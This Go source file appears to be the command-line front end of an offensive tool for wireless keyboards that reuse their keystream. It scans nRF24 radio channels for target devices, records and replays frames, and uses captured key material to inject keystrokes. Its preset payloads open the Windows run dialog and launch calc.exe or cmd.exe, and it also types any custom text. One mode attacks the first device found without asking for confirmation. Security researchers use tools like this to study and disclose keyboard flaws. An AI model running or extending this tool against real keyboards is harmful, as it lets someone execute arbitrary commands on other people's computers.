package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"

	"github.com/Einstein2150/nrf24-playset/attack"
	"github.com/Einstein2150/nrf24-playset/helper"
	"github.com/Einstein2150/nrf24-playset/hid"
	"github.com/Einstein2150/nrf24-playset/keyboard"
	"github.com/Einstein2150/nrf24-playset/nrf24"
	"github.com/Einstein2150/nrf24-playset/sched"
	"github.com/Einstein2150/nrf24-playset/sniff"
	"github.com/manifoldco/promptui"
	"github.com/sirupsen/logrus"
)

var (
	device    = flag.String("d", "", "device family ("+strings.Join(keyboard.Names(), ", ")+"), prompted when empty")
	address   = flag.String("a", "", "target address as logged by the scanner, e.g. 35:F2:94:C7:E2")
	channels  = flag.String("c", "", "channel list overriding the family plan, e.g. 6 or 2-83 or 5,8,11")
	key       = flag.String("k", "", "captured key material as hex")
	payload   = flag.String("p", "calc", "text to type, or a preset ("+strings.Join(presetNames(), ", ")+")")
	execute   = flag.Bool("x", false, "inject the payload as soon as possible and exit")
	layout    = flag.String("l", "us", "keyboard layout ("+strings.Join(hid.LayoutNames(), ", ")+")")
	runDialog = flag.Bool("run", false, "open the run dialog ("+attack.RunDialogCombo+") before typing")
	combo     = flag.String("combo", "", "key combo sent before typing, e.g. CTRL+ALT+T")
	yes       = flag.Bool("y", false, "with -x, take the first device found without asking")
	debug     = flag.Bool("debug", false, "log frames and commands")
	usbDebug  = flag.Int("usbdebug", 0, "libusb debug level (0..3)")
)

// presets are the canned attack payloads of the menu.
var presets = []struct {
	name, desc, text string
}{
	{"calc", "Open calc.exe", "calc"},
	{"cmd", "Open cmd.exe", "cmd"},
}

func presetNames() (res []string) {
	for _, p := range presets {
		res = append(res, p.name)
	}
	return
}

func presetText(name string) string {
	for _, p := range presets {
		if p.name == name {
			return p.text
		}
	}
	return name
}

func banner() {
	fmt.Println("=============================================================")
	fmt.Println("=                      - nrf24-playset -                    =")
	fmt.Println("=                                                           =")
	fmt.Println("=    Keystroke injection for keystream reusing keyboards    =")
	fmt.Println("=============================================================")
}

// parseChannels accepts single channels, ranges and comma separated lists
// of both.
func parseChannels(s string) (res []int, err error) {
	for _, part := range strings.Split(s, ",") {
		part = strings.TrimSpace(part)
		from, to := part, part
		if i := strings.Index(part, "-"); i > 0 {
			from, to = part[:i], part[i+1:]
		}
		lo, e1 := strconv.Atoi(from)
		hi, e2 := strconv.Atoi(to)
		if e1 != nil || e2 != nil || lo > hi {
			return nil, fmt.Errorf("%w: invalid channel %q", helper.ErrProtocolFormat, part)
		}
		for ch := lo; ch <= hi; ch++ {
			res = append(res, ch)
		}
	}
	return
}

func selectFamily() (*keyboard.Family, error) {
	names := keyboard.Names()
	options := make([]string, len(names))
	for i, n := range names {
		f, _ := keyboard.Lookup(n)
		options[i] = fmt.Sprintf("%s (%s)", n, f.Description)
	}
	idx, err := helper.Select("choose target device", options)
	if err != nil {
		return nil, err
	}
	return keyboard.Lookup(names[idx])
}

// confirmTarget asks on the terminal whether a scanned device is the target.
func confirmTarget(res sniff.Result) bool {
	prompt := promptui.Prompt{
		Label:     fmt.Sprintf("attack device %s on channel %d", res.Address.Display(), res.Channel),
		IsConfirm: true,
	}
	_, err := prompt.Run()
	return err == nil
}

// config turns the flags into a session config.
func config() (cfg attack.Config, err error) {
	if *device == "" {
		cfg.Family, err = selectFamily()
	} else {
		cfg.Family, err = keyboard.Lookup(*device)
	}
	if err != nil {
		return
	}
	if cfg.Layout, err = hid.LayoutByName(*layout); err != nil {
		return
	}
	if *address != "" {
		a, eAddr := nrf24.ParseDisplayAddress(*address)
		if eAddr != nil {
			return cfg, eAddr
		}
		cfg.Address = &a
	}
	if *key != "" {
		if cfg.Material, err = helper.ParseHex(*key); err != nil {
			return
		}
	}
	if *channels != "" {
		if cfg.Channels, err = parseChannels(*channels); err != nil {
			return
		}
	}
	cfg.Payload = presetText(*payload)
	cfg.RunDialog = *runDialog
	cfg.Combo = *combo
	cfg.Execute = *execute
	// the menu owns the terminal otherwise
	if cfg.Execute && !*yes {
		cfg.Confirm = confirmTarget
	}
	return
}

type menuItem struct {
	label string
	run   func(s *attack.Session) bool
}

func submit(cmd attack.Command) func(s *attack.Session) bool {
	return func(s *attack.Session) bool {
		s.Submit(cmd)
		return cmd == attack.CMD_QUIT
	}
}

func menuItems() []menuItem {
	items := []menuItem{
		{"scan for devices", submit(attack.CMD_SCAN)},
		{"start/stop recording", submit(attack.CMD_RECORD)},
		{"replay recording", submit(attack.CMD_REPLAY)},
	}
	for _, p := range presets {
		text := p.text
		items = append(items, menuItem{"attack: " + p.desc, func(s *attack.Session) bool {
			s.SetPayload(text)
			s.Submit(attack.CMD_ATTACK)
			return false
		}})
	}
	items = append(items,
		menuItem{"attack: type custom text", func(s *attack.Session) bool {
			prompt := promptui.Prompt{Label: "text to type"}
			text, err := prompt.Run()
			if err != nil || text == "" {
				return false
			}
			s.SetPayload(text)
			s.Submit(attack.CMD_ATTACK)
			return false
		}},
		menuItem{"abort current operation", submit(attack.CMD_ABORT)},
		menuItem{"quit", submit(attack.CMD_QUIT)},
	)
	return items
}

// menu reads commands from the terminal until quit is chosen or the prompt
// is interrupted.
func menu(s *attack.Session) {
	items := menuItems()
	labels := make([]string, len(items))
	for i, it := range items {
		labels[i] = it.label
	}
	for {
		idx, err := helper.Select("command", labels)
		if err != nil {
			s.Submit(attack.CMD_QUIT)
			return
		}
		if items[idx].run(s) {
			return
		}
	}
}

func main() {
	flag.Parse()

	log := logrus.New()
	log.SetFormatter(&logrus.TextFormatter{FullTimestamp: true})
	if *debug {
		log.SetLevel(logrus.DebugLevel)
	}

	banner()

	cfg, err := config()
	if err != nil {
		log.WithError(err).Error("invalid arguments")
		os.Exit(1)
	}

	radio, err := nrf24.Open(nrf24.Options{USBDebug: *usbDebug, Log: logrus.NewEntry(log)})
	if err != nil {
		log.WithError(err).Error("could not open radio")
		os.Exit(1)
	}
	defer radio.Close()
	if err = radio.EnableLNA(); err != nil {
		log.WithError(err).Warn("enabling LNA failed")
	}

	session, err := attack.NewSession(radio, sched.Monotonic{}, cfg, logrus.NewEntry(log))
	if err != nil {
		log.WithError(err).Error("invalid session")
		os.Exit(1)
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	//Signal handler
	c := make(chan os.Signal, 1)
	signal.Notify(c, os.Interrupt)
	go func() {
		<-c
		cancel()
		session.Submit(attack.CMD_QUIT)
	}()

	if !cfg.Execute {
		go menu(session)
	}

	err = session.Run(ctx)
	if err != nil && !errors.Is(err, context.Canceled) {
		log.WithError(err).Error("session failed")
		radio.Close()
		os.Exit(1)
	}
}
